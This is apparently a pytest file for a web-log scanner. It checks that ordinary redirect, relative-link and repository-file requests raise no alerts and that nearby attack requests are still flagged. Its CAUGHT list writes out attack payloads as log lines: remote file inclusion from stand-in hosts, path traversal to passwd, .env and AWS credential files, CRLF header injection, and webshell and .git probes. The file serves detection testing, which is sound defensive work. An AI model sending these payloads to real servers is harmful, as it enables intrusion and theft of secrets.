"""Ordinary requests that raised a single-line alert (the second audit of 2026-12-07), scanned as
a user scans a log: each must raise no alert and no finding of medium or more, while the attack
next to it stays caught."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from lwsyslog.cli.main import main

_SERIOUS = frozenset({"medium", "high", "critical"})


def _line(target: str, status: int = 200, method: str = "GET") -> str:
    return (
        f'203.0.113.9 - - [07/Dec/2026:10:00:00 +0000] "{method} {target} HTTP/1.1" {status} 512 '
        '"-" "Mozilla/5.0"'
    )


ORDINARY = [
    # Outbound-link and redirect parameters the site answers with a redirect.
    _line("/out?url=https://www.example.org/page?", 302),
    _line("/click?page=https://www.example.org/article", 302),
    _line("/out?url=https://www.rfc-editor.org/rfc/rfc9110.txt", 302),
    _line("/track?page_url=https://www.example.org/article", 204),
    # A one-level relative link back into the site.
    _line("/login?return=../index.html"),
    _line("/login?next=../account/", 302),
    _line("/login?next=..%2Faccount%2Fsettings&lang=en"),
    _line("/login?Return_To=../account/", 302),
    _line("/docs?goto=../intro.htm#setup"),
    _line("/pricing?lang=en&ref=../plans"),
    # A message whose second line starts with an X- word that is no header.
    _line("/contact?msg=Hello%0D%0AX-ray%3A%20results%20attached"),
    # A code browser and a WebDAV share serve a repository's or a user's files as content.
    _line("/owner/repo/src/branch/main/.github/workflows/ci.yml"),
    _line("/owner/repo/raw/branch/main/.env.example"),
    _line("/owner/repo/blob/main/src/shell.php"),
    _line("/group/project/-/blob/main/config/.htaccess"),
    _line("/remote.php/dav/files/alice/project/.git/objects/ab/cdef0123456789abcdef0123456789"),
    _line("/remote.php/dav/files/alice/Photos/._photo.jpg", 201, "PUT"),
    _line("/remote.php/webdav/site/uploads/index.php"),
    # Answered: a template committed on purpose, a registry config, a synced project's .env.
    _line("/owner/repo/src/branch/main/.env.sample"),
    _line("/group/project/-/blob/main/.npmrc", 304),
    _line("/remote.php/webdav/code/app/.env"),
]

CAUGHT = [
    (_line("/index.php?page=http://evil.example/shell.txt?", 302), "file-inclusion-remote"),
    (_line("/index.php?file=http://198.51.100.9/r57.txt%00"), "file-inclusion-remote"),
    (_line("/index.php?page=ftp://evil.example/x"), "file-inclusion-remote"),
    (_line("/main.php?template=https://evil.example/x"), "file-inclusion-remote"),
    (_line("/index.php?page=php://input", 200, "POST"), "file-inclusion-wrapper"),
    (_line("/dl?f=../../etc/passwd"), "path-traversal-dotdot"),
    (_line("/dl?f=..%5c..%5cwindows%5cwin.ini"), "path-traversal-dotdot"),
    (_line("/dl?f=../../../../"), "path-traversal-dotdot"),
    (_line("/dl?f=..%2f..%2f"), "path-traversal-dotdot"),
    (_line("/dl?f=../.env"), "path-traversal-dotdot"),
    (_line("/download.php?file=../wp-config.php"), "path-traversal-dotdot"),
    (_line("/login?return=../index.html&f=..%2f..%2fetc/hosts"), "path-traversal-dotdot"),
    # One level up in a parameter that reads what it names, or to a script.
    (_line("/index.php?lang=../uploads/shell.php"), "path-traversal-dotdot"),
    (_line("/download.php?file=../index.php"), "path-traversal-dotdot"),
    (_line("/view?page=../admin/users"), "path-traversal-dotdot"),
    (_line("/view?template=../index.html"), "path-traversal-dotdot"),
    (_line("/login?next=../uploads/shell.php"), "path-traversal-dotdot"),
    (_line("/contact?msg=Hello%0D%0ASet-Cookie%3A%20sid%3D1"), "header-injection-crlf"),
    (_line("/contact?msg=Hello%0D%0AX-XSS-Protection%3A%200"), "header-injection-crlf"),
    (_line("/contact?msg=Hello%0D%0AX-Original-URL%3A%20/admin"), "header-injection-probe"),
    (_line("/contact?msg=Hello%0D%0A%0D%0AHTTP/1.1%20200%20OK"), "header-injection-crlf"),
    (_line("/r?u=x%0d%0aX-Foo:%20bar"), "header-injection-probe"),
    (_line("/.git/config"), "sensitive-dotfile"),
    (_line("/.env", 404), "sensitive-dotfile"),
    (_line("/shell.php", 403), "webshell-known-name"),
    (_line("/remote.php/dav/files/../../.env"), "sensitive-dotfile"),
    (_line("/remote.php/dav/files/alice/%2e%2e/%2e%2e/%2e%2e/.env"), "sensitive-dotfile"),
    (_line("/owner/repo/raw/branch/main/..%2f..%2f..%2f.git/config"), "sensitive-dotfile"),
    (_line("/app/shell.php/blob/main/x"), "webshell-known-name"),
    # A content route not answered is a probe; no repository holds .git; a secret committed.
    (_line("/x/y/blob/z/.env", 404), "sensitive-dotfile"),
    (_line("/remote.php/webdav/x/.env", 401), "sensitive-dotfile"),
    (_line("/owner/repo/src/branch/main/.github/workflows/ci.yml", 404), "sensitive-hidden-path"),
    (_line("/x/y/blob/z/.git/config"), "sensitive-dotfile"),
    (_line("/owner/repo/blob/main/.env"), "sensitive-dotfile"),
    (_line("/owner/repo/raw/branch/main/.aws/credentials"), "sensitive-dotfile"),
]


def _scan(tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str) -> list[dict[str, object]]:
    log = tmp_path / "traffic.log"
    log.write_text(line + "\n", encoding="utf-8")
    main(["scan", "--json", "--no-system-config", str(log)])
    return [json.loads(row) for row in capsys.readouterr().out.splitlines()]


@pytest.mark.parametrize("line", ORDINARY, ids=[line[46:120] for line in ORDINARY])
def test_ordinary_request_raises_no_alert_and_nothing_of_medium_or_more(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str
) -> None:
    records = _scan(tmp_path, capsys, line)
    assert [r for r in records if r["kind"] == "alert"] == []
    assert [r["rules"] for r in records if r.get("severity") in _SERIOUS] == []


@pytest.mark.parametrize(("line", "rule_id"), CAUGHT, ids=[c[0][46:120] for c in CAUGHT])
def test_the_attack_next_to_the_ordinary_shape_is_still_found(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str, rule_id: str
) -> None:
    records = _scan(tmp_path, capsys, line)
    assert any(rule_id in r.get("rules", ()) for r in records if r["kind"] == "finding")
